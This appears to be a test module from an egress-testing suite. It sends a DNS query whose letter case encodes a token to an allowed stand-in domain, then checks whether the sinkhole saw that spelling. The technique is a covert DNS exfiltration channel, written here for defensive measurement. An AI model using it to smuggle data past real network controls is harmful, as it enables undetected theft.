# SPDX-License-Identifier: Apache-2.0
"""Upper and lower case of an allowed name, as a code that a resolver passes on."""
import dns

TITLE = "bits in the letter case of an allowed name's question"
THREAT = "beyond 13"
FAMILIES = "4"
OBSERVE = "the spelling that the client chose arrives at the name's server"


def attack(c):
    with c.step("a name in a spelling of the client's choice") as token:
        # The letters of the token stand for the bits; the sinkhole's record has names as they were spelled.
        name = f"a-{token}.ok.test"
        spelled = "".join(x.upper() if i % 3 == 0 else x for i, x in enumerate(name))
        c.udp(c.resolver() or c.e, 53, dns.query(spelled))


ALLOW = ["ok.test", "*.ok.test"]
NEEDS = ["wildcard"]


def seen(record, token, info):
    if record["kind"] != "dns" or token not in record["tokens"]:
        return False
    name = f"a-{token}.ok.test"
    return record.get("name") == "".join(x.upper() if i % 3 == 0 else x for i, x in enumerate(name))
